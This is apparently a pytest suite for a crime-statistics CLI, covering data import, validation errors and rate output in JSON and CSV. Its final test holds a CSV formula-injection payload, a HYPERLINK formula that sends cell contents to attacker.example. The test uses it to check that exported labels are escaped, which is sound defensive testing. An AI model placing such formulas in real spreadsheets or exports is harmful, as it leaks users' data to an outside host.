"""`sinmiedo crime import|rates` against the configured database: exit codes and located problems."""

import csv
import io
import json

import pytest
from sqlmodel import Session, func, select
from tests.api.crime_files import (
    INCIDENTS_CSV,
    MAPPING_CSV,
    TERRITORIES_CSV,
    TOTAL_HOMICIDES,
    TOTAL_POPULATION,
    homicides_csv,
    population_csv,
)

from api.cli import main
from api.crime.models import CrimeCount


def write(folder, name: str, text: str):
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def country(cli_env, runner):
    """Territories, population "pop-2025" and mapping "v1" imported through the CLI."""
    for args in (
        ["territories", write(cli_env, "territorios.csv", TERRITORIES_CSV)],
        ["population", write(cli_env, "poblacion.csv", population_csv()), "--population-version", "pop-2025"],
        ["mapping", write(cli_env, "delitos.csv", MAPPING_CSV), "--mapping-version", "v1"],
    ):
        result = runner.invoke(main, ["crime", "import", *map(str, args)])
        assert result.exit_code == 0, result.output
    return cli_env


def import_counts(runner, path, *extra: str):
    return runner.invoke(main, ["crime", "import", "counts", str(path), "--source", "police", "--unit", "victims",
                                *extra])


def test_import_reports_the_batch(runner, country):
    result = import_counts(runner, write(country, "homicidios.csv", homicides_csv()))
    assert result.exit_code == 0, result.output
    assert "12 row(s) read, 12 imported, 0 skipped" in result.output


def test_bad_rows_exit_2_listing_every_problem_and_import_nothing(runner, country, engine):
    bad = homicides_csv() + "2025-13,M11,HOM,female,3\n2025-03,M11,XXX,male,-4\n"
    result = import_counts(runner, write(country, "homicidios.csv", bad))
    assert result.exit_code == 2
    assert "homicidios.csv:14: bad_period:" in result.output
    assert "homicidios.csv:15: unknown_offence_code:" in result.output
    assert "homicidios.csv:15: negative_count:" in result.output
    assert "[invalid_rows]" in result.output
    with Session(engine) as session:
        assert session.exec(select(func.count()).select_from(CrimeCount)).one() == 0


def test_skip_invalid_imports_the_rest_and_reports_the_skipped_rows(runner, country):
    bad = homicides_csv() + "2025-13,M11,HOM,female,3\n"
    result = import_counts(runner, write(country, "homicidios.csv", bad), "--skip-invalid")
    assert result.exit_code == 0, result.output
    assert "homicidios.csv:14: skipped: bad_period:" in result.output
    assert "13 row(s) read, 12 imported, 1 skipped" in result.output


def test_importing_the_same_file_again_changes_nothing(runner, country):
    path = write(country, "homicidios.csv", homicides_csv())
    import_counts(runner, path)
    again = import_counts(runner, path)
    assert again.exit_code == 0
    assert "already imported as batch" in again.output


def test_wide_layout_is_read(runner, country):
    wide = "territory,offence,sex,2025-01,2025-02\nM11,ROB,female,10,12\n"
    path = write(country, "robos.csv", wide)
    result = runner.invoke(main, ["crime", "import", "counts", str(path), "--unit", "recorded_offences",
                                  "--layout", "wide", "--wide-by", "period"])
    assert result.exit_code == 0, result.output
    assert "(2 counts figure(s) stored)" in result.output


def test_counts_without_a_unit_are_bad_input(runner, country):
    result = runner.invoke(main, ["crime", "import", "counts", str(write(country, "h.csv", homicides_csv()))])
    assert result.exit_code == 2
    assert "--unit" in result.output


def test_an_existing_population_version_is_bad_input(runner, country):
    path = write(country, "poblacion2.csv", population_csv().replace("400000", "1"))
    result = runner.invoke(main, ["crime", "import", "population", str(path), "--population-version", "pop-2025"])
    assert result.exit_code == 2
    assert "population_version_exists" in result.output


def test_rates_as_json_and_csv(runner, country):
    import_counts(runner, write(country, "homicidios.csv", homicides_csv()))
    as_json = runner.invoke(main, ["crime", "rates", "--iccs", "0101", "--year", "2025"])
    assert as_json.exit_code == 0, as_json.output
    [row] = json.loads(as_json.output)["rows"]
    assert (row["count"], row["population"], round(row["rate"], 1)) == (TOTAL_HOMICIDES, TOTAL_POPULATION, 85.5)
    as_csv = runner.invoke(main, ["crime", "rates", "--iccs", "0101", "--year", "2025", "--by", "sex",
                                  "--format", "csv"])
    assert as_csv.exit_code == 0, as_csv.output
    rows = list(csv.DictReader(io.StringIO(as_csv.output)))
    assert [row["sex"] for row in rows] == ["female", "male"]
    assert sum(int(row["count"]) for row in rows) == TOTAL_HOMICIDES


def test_femicide_rate_from_imported_records(runner, country):
    path = write(country, "victimas.csv", INCIDENTS_CSV)
    assert runner.invoke(main, ["crime", "import", "incidents", str(path)]).exit_code == 0
    result = runner.invoke(main, ["crime", "rates", "--indicator", "femicide", "--year", "2025"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["rows"][0]["count"] == 3


def test_rates_of_an_unknown_territory_exit_2(runner, country):
    result = runner.invoke(main, ["crime", "rates", "--iccs", "0101", "--year", "2025", "--territory", "ZZ"])
    assert result.exit_code == 2
    assert "territory_not_found" in result.output


def test_rates_csv_escapes_a_formula_in_a_users_label(runner, cli_env):
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    for args in (
        ["territories", write(cli_env, "territorios.csv", TERRITORIES_CSV)],
        ["population", write(cli_env, "poblacion.csv", population_csv()), "--population-version", hostile],
        ["mapping", write(cli_env, "delitos.csv", MAPPING_CSV), "--mapping-version", "v1"],
    ):
        assert runner.invoke(main, ["crime", "import", *map(str, args)]).exit_code == 0
    assert import_counts(runner, write(cli_env, "homicidios.csv", homicides_csv())).exit_code == 0
    result = runner.invoke(main, ["crime", "rates", "--iccs", "0101", "--year", "2025", "--format", "csv"])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.output)))
    assert row["population_version"] == "'" + hostile
